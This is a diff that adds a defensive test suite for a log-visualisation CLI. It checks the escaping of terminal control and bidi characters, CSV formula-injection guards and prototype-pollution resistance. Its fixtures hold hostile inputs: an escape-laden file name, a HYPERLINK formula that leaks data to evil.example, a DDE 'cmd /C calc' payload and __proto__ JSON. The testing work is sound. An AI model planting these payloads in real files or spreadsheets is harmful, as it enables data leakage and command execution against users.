@@ -1,0 +1,163 @@
+/**
+ * A log cannot drive the terminal (in-process): escape sequences, other controls and bidi overrides
+ * in keys, values and file names come out escaped in the dashboard (final and live frames), chart
+ * legends, diagnostics and error messages; CSV guards formula cells; `__proto__` and `constructor`
+ * keys are data that change nothing but their own cell.
+ */
+import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { PassThrough, Readable } from 'node:stream';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { runWatch } from '../../src/commands/watch.js';
+import type { CommandIO } from '../../src/core/io.js';
+import { runInProcess } from '../helpers/visualizations-io.js';
+import { ROOT } from '../helpers/run-cli.js';
+
+const HOSTILE = join(ROOT, 'fixtures/hostile.log');
+/** What must never reach a terminal raw: C0 (but \n), DEL, C1, bidi marks, line/paragraph separators. */
+const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
+
+function expectSafe(text: string): void {
+  const m = UNSAFE.exec(text);
+  if (m) throw new Error(`raw U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m.index}: ${JSON.stringify(text.slice(Math.max(0, m.index - 40), m.index + 40))}`);
+}
+
+let dir: string;
+/** A copy of hostile.log whose very name is hostile (Linux file names may hold ESC and BEL). */
+let evilName: string;
+beforeAll(() => {
+  dir = mkdtempSync(join(tmpdir(), 'vizmeta-hostile-'));
+  evilName = join(dir, 'run\x1b]0;pwned\x07\u202egol.log');
+  copyFileSync(HOSTILE, evilName);
+});
+
+const prototypeNames = Object.getOwnPropertyNames(Object.prototype).sort();
+afterAll(() => {
+  // Nothing any test ran reached Object.prototype.
+  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeNames);
+  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
+});
+
+describe('hostile content is shown escaped', () => {
+  it('watch (not a terminal): the final dashboard', async () => {
+    const result = await runInProcess(['watch', '--quiet', HOSTILE]);
+    expect(result.status).toBe(0);
+    expectSafe(result.stdout);
+    expect(result.stdout).toContain('\\x1b[2J\\x1b[Hclear');
+    expect(result.stdout).toContain('\\u202eevil_key');
+    expect(result.stdout).toContain('key\\nwith newline');
+  });
+
+  it('watch on a terminal: live frames hold only vizmeta\'s own sequences', async () => {
+    const stdout = new PassThrough();
+    const chunks: Buffer[] = [];
+    stdout.on('data', (c: Buffer) => chunks.push(c));
+    const io: CommandIO = {
+      stdin: Readable.from([readFileSync(HOSTILE)]),
+      stdout,
+      stderr: new PassThrough(),
+      stdinIsTTY: false,
+      stdoutIsTTY: true,
+      columns: 120,
+      rows: 50,
+      env: {},
+      cwd: ROOT,
+    };
+    const status = await runWatch(['-'], { quiet: true, color: true }, io, { live: true });
+    expect(status).toBe(0);
+    const own = /\x1b\[\?25[lh]|\x1b[78]|\x1b\[\?7[lh]|\x1b\[\d+;\d+[Hr]|\x1b\[r|\x1b\[[02]?[JK]|\x1b\[[\d;]*m|\r|\n/g;
+    const frames = Buffer.concat(chunks).toString();
+    expect(frames).toContain('\x1b7');
+    expectSafe(frames.replace(own, ''));
+    expect(frames).not.toContain('\x1b]');
+  });
+
+  it('chart: legends, keys and titles from the log and from file names', async () => {
+    const result = await runInProcess(['chart', '--keys', 'accuracy,\u202eevil_key', HOSTILE, evilName]);
+    expect(result.status).toBe(0);
+    expectSafe(result.stdout);
+    expect(result.stdout).toContain('run\\x1b]0;pwned\\x07\\u202egol.log');
+    expect(result.stdout).toContain('\\u202eevil_key');
+  });
+
+  it('diagnostics and error messages: file names, lines and expressions', async () => {
+    const broken = join(dir, 'bad\x1b[2J\x07.log');
+    writeFileSync(broken, '{"\x1b]0;x\x07": \n');
+    const extracted = await runInProcess(['extract', broken, join(dir, 'missing\x1b[31m\u202e.log')]);
+    expect(extracted.status).toBe(2);
+    expectSafe(extracted.stderr);
+    expect(extracted.stderr).toContain('bad\\x1b[2J\\x07.log:1: looks like metadata but is not valid JSON');
+    expect(extracted.stderr).toContain('vizmeta: ');
+    expect(extracted.stderr).toContain('missing\\x1b[31m\\u202e.log: no such file');
+
+    for (const args of [
+      ['watch', '--stop-when', 'loss > \x1b]0;pwned\x07', HOSTILE],
+      ['watch', '--stop-when', '__proto__ > 1', HOSTILE],
+      ['watch', '--monitor', 'loss', '--patience', '\u202e1\x1b[2J', HOSTILE],
+      ['chart', '--smooth', '\x1b[2J', HOSTILE],
+      ['run', '--', '\x1b]0;pwned\x07-no-such-command'],
+    ]) {
+      const result = await runInProcess(args);
+      expect(result.status, args.join(' ')).toBeGreaterThanOrEqual(2);
+      expect(result.stderr).toMatch(/^vizmeta: /);
+      expectSafe(result.stderr);
+    }
+  });
+
+  it('an early-stop notice quoting a hostile string value stays escaped', async () => {
+    const result = await runInProcess(['watch', '--quiet', '--stop-when', 'step >= 2', HOSTILE]);
+    expect(result.status).toBe(0);
+    expectSafe(result.stderr);
+    expectSafe(result.stdout);
+  });
+});
+
+describe('CSV formula guard (extract --format csv)', () => {
+  it('text cells starting with = + - @ tab or CR get a leading apostrophe; numbers stay numbers', async () => {
+    const result = await runInProcess(['extract', '--format', 'csv', HOSTILE]);
+    expect(result.status).toBe(0);
+    // (A key holds a newline, so the header spans two physical lines: look in the whole text.)
+    expect(result.stdout).toContain(",cr_formula,'=1+1,accuracy,");
+    const rows = result.stdout.split('\n');
+    const six = rows.find((r) => r.startsWith('6,')) as string;
+    expect(six).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1, ""Click for results"")"`);
+    expect(six).toContain(",'+cmd|' /C calc'!A0,'-2+3,'@SUM(A1),'\t=1+1,\"'\r=1+1\",formula as a key,0.91,");
+    const negative = await runInProcess(['extract', '--format', 'csv'], { input: '{"loss": -0.5, "note": "-0.5"}\n' });
+    expect(negative.stdout.split('\n')[1]).toMatch(/^-0\.5,'-0\.5,/);
+  });
+});
+
+describe('__proto__ and constructor keys are plain data', () => {
+  const log = [
+    '{"step": 1, "__proto__": {"polluted": 1, "loss": 9}, "constructor": {"prototype": {"polluted": 2}}, "loss": 0.5}',
+    '{"step": 2, "toString": 3, "hasOwnProperty": 4, "valueOf": 5, "loss": 0.25}',
+    '{"step": 3, "__proto__": 7, "loss": 0.125}',
+  ].join('\n') + '\n';
+
+  it('extract keeps them as their own cells', async () => {
+    const result = await runInProcess(['extract'], { input: log });
+    expect(result.status).toBe(0);
+    const lines = result.stdout.trim().split('\n');
+    expect(lines[0]).toMatch(/^\{"step":1,"__proto__":\{"polluted":1,"loss":9\},"constructor":\{"prototype":\{"polluted":2\}\},"loss":0.5,"_time":/);
+    expect(lines[2]).toMatch(/^\{"step":3,"__proto__":7,"loss":0.125,/);
+    const csv = await runInProcess(['extract', '--format', 'csv'], { input: log });
+    expect(csv.stdout.split('\n')[0]).toBe('step,__proto__.polluted,__proto__.loss,constructor.prototype.polluted,loss,toString,hasOwnProperty,valueOf,__proto__,_time');
+  });
+
+  it('watch, chart and the stop rules chart and read them as keys, nothing else', async () => {
+    const watched = await runInProcess(['watch', '--quiet'], { input: log });
+    expect(watched.status).toBe(0);
+    expect(watched.stdout).toMatch(/\n__proto__\.polluted +1 +1 +1 +1 /);
+    expect(watched.stdout).toMatch(/\nloss +0\.125 +0\.125 +0\.5 +3 /);
+    const charted = await runInProcess(['chart', '--keys', '__proto__.loss,toString,loss'], { input: log });
+    expect(charted.status).toBe(0);
+    expect(charted.stdout).toMatch(/\n__proto__\.loss +9 +9 +9 +1 /);
+    // Names that reach prototypes are refused in expressions.
+    const refused = await runInProcess(['watch', '--stop-when', 'constructor.prototype.polluted > 1'], { input: log });
+    expect(refused.status).toBe(2);
+    const stopped = await runInProcess(['watch', '--quiet', '--stop-when', 'toString >= 3'], { input: log });
+    expect(stopped.status).toBe(0);
+    expect(stopped.stderr).toMatch(/early stop: .* at step 2/);
+  });
+});
